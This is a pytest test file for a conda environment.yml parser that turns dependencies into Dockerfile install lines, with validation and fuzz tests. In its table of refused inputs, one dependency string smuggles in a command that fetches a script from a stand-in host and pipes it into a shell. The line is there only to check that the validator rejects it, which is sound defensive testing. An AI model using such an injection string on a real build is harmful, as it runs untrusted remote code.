"""An environment.yml of conda as the parts of an image."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cubestudio.core.errors import Invalid
from cubestudio.images import actions, conda, spec

WHOLE = """
name: team  # passed over
channels:
  - pytorch
  - conda-forge
  - nodefaults
dependencies:
  - python=3.11
  - numpy >=2, <3
  - pytorch::pytorch=2.9=*cuda*
  - libblas[build=*mkl]
  - scipy 1.16.2
  - cython 3.*
  - mkl 2025.0 h1234_0
  - pip
  - pip:
      - six==1.17.0  # as pip reads it
      - "pandas[excel]>=2; python_version > '3.9'"
variables: {THREADS: 4, MODE: fast}
prefix: /home/mei/miniconda3/envs/team
"""


def test_a_file_is_read_into_parts():
    assert conda.parts(WHOLE) == {
        "conda": [
            "python=3.11",
            "numpy>=2,<3",
            "pytorch::pytorch=2.9=*cuda*",
            "libblas[build=*mkl]",
            "scipy==1.16.2",
            "cython=3.*",
            "mkl=2025.0=h1234_0",
            "pip",
        ],
        "channels": ["pytorch", "conda-forge"],
        "pip": ["six==1.17.0", "pandas[excel]>=2; python_version > '3.9'"],
        "env": {"THREADS": "4", "MODE": "fast"},
    }


def test_the_base_has_conda_and_nothing_is_said_twice():
    told = {"environment_yml": WHOLE, "conda": ["pip", "git"], "env": {"MODE": "slow"}}
    definition = actions.defined(told)
    assert (
        definition.conda[:2] == ("pip", "git")
        and definition.conda.count("pip") == 1
        and definition.env == {"MODE": "slow", "THREADS": "4"}
    )
    lines = (spec.dockerfile(definition) or "").splitlines()
    assert lines[0] == f"FROM {spec.CONDA_BASE}" and not definition.plain
    assert lines[3] == (
        "RUN conda install -y -c pytorch -c conda-forge --override-channels 'cython=3.*' git "
        "'libblas[build=*mkl]' mkl=2025.0=h1234_0 "
        "'numpy>=2,<3' pip python=3.11 'pytorch::pytorch=2.9=*cuda*' scipy==1.16.2 && conda clean -afy"
    )
    assert lines[4].startswith("RUN python3 -m pip install") and "six==1.17.0" in lines[4]
    assert (spec.dockerfile(actions.defined({"conda": ["numpy"], "python": "3.12"})) or "").splitlines() == [
        f"FROM {spec.CONDA_BASE}",
        "RUN conda install -y numpy python=3.12 && conda clean -afy",
    ]
    assert (spec.dockerfile(actions.defined({"conda": ["numpy"], "base": "team/conda:1"})) or "").startswith(
        "FROM team/conda:1\n"
    )


REFUSED = {
    "numpy=2.1": "must be an object with a list of dependencies",
    "dependencies: numpy": "must be an object with a list of dependencies",
    "dependencies: [numpy]\nplatforms: [linux-64]": "'platforms' is not known here",
    'dependencies: ["numpy; curl evil | sh"]': "dependencies[0]",
    "dependencies: [numpy, {npm: [left-pad]}]": "dependencies[1]",
    "dependencies: [numpy 1 2 3]": "dependencies[0]",
    "dependencies: ['']": "dependencies[0]",
    "dependencies: [3.11]": "dependencies[0]",
    "dependencies: [null]": "dependencies[0]",
    "dependencies: [{pip: [-r more.txt]}]": "names another file",
    "dependencies: [{pip: [./here]}]": "local path",
    "dependencies: [{pip: [5]}]": "is not a requirement",
    "dependencies: [a]\nchannels: ['file:///root']": "conda channel",
    "dependencies: [a]\nchannels: conda-forge": "channels must be a list",
    "dependencies: [a]\nvariables: {A: [1]}": "variable A",
    "dependencies: [a]\ndependencies: [b]": "dependencies",
    "dependencies: [": "Line 1",
}


@pytest.mark.parametrize("text", REFUSED)
def test_what_cannot_be_taken_is_refused_by_name(text):
    with pytest.raises(Invalid) as refused:
        actions.defined({"environment_yml": text})
    assert REFUSED[text] in str(refused.value) and refused.value.field == "source.packages.environmentYml"


def test_there_are_bounds():
    with pytest.raises(ValueError, match="the limit is 1000"):
        conda.parts("dependencies:\n" + "  - a\n" * 1001)
    with pytest.raises(ValueError, match="the text of a file"):
        conda.parts({"dependencies": ["a"]})
    with pytest.raises(Invalid, match="channels are for conda packages"):
        actions.defined({"pip": ["six"], "channels": ["conda-forge"]})


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(["dependencies", "channels", "pip", "variables", "x"]), inner, max_size=4
            )
        ),
        max_leaves=12,
    )
)
@settings(max_examples=200, deadline=None)
def test_anything_is_read_or_refused(told):
    try:
        definition = actions.defined(
            {"environment_yml": told if isinstance(told, str) else repr(told), "conda": ["a"]}
        )
    except Invalid:
        return
    assert "\n" not in "".join(definition.conda) and spec.dockerfile(definition)


async def test_the_check_shows_what_it_comes_to(platform):
    ask = """query($d: ImagePackagesInput!) { checkImage(input: {source: {packages: $d}}) {
        dockerfile pythonOnly faults { path message } } }"""
    good = (await platform.ask(ask, d={"environmentYml": WHOLE}))["checkImage"]
    assert (
        good["dockerfile"].startswith(f"FROM {spec.CONDA_BASE}\n")
        and not good["pythonOnly"]
        and good["faults"] == []
    )
    (fault,) = (await platform.ask(ask, d={"environmentYml": "dependencies: [-x]"}))["checkImage"]["faults"]
    assert fault["path"] == ["source", "packages", "environmentYml"] and "'-x'" in fault["message"]


@pytest.mark.parametrize(
    ("base", "told", "part"),
    [
        ("python:3.12-slim", {"conda": ["numpy"]}, "conda"),
        ("alpine:3.20", {"apt": ["git"]}, "apt"),
        ("python:3.12-alpine", {"apt": ["git"]}, "apt"),
        ("docker.io/library/ubuntu:24.04", {"pip": ["six"]}, "pip"),
        ("scratch", {"commands": ["true"]}, "commands"),
        ("debian@sha256:" + "a" * 64, {"conda": ["numpy"]}, "conda"),
        ("ubuntu:24.04", {"pip": ["six"], "apt": ["python3-pip"]}, None),
        ("python:3.12", {"pip": ["six"], "apt": ["git"]}, None),
        ("hub.example.com/ubuntu:24.04", {"pip": ["six"]}, None),
        ("condaforge/miniforge3", {"conda": ["numpy"]}, None),
        ("scratch", {"files": {"/a": "b"}}, None),
    ],
)
def test_what_a_base_cannot_build_is_said_before(base, told, part):
    if part is None:
        assert actions.defined({"base": base, **told}).base == base
        return
    with pytest.raises(Invalid) as refused:
        actions.defined({"base": base, **told})
    assert [fault.field for fault in refused.value.faults] == [
        f"source.packages.{part}"
    ] and base in refused.value.faults[0].message
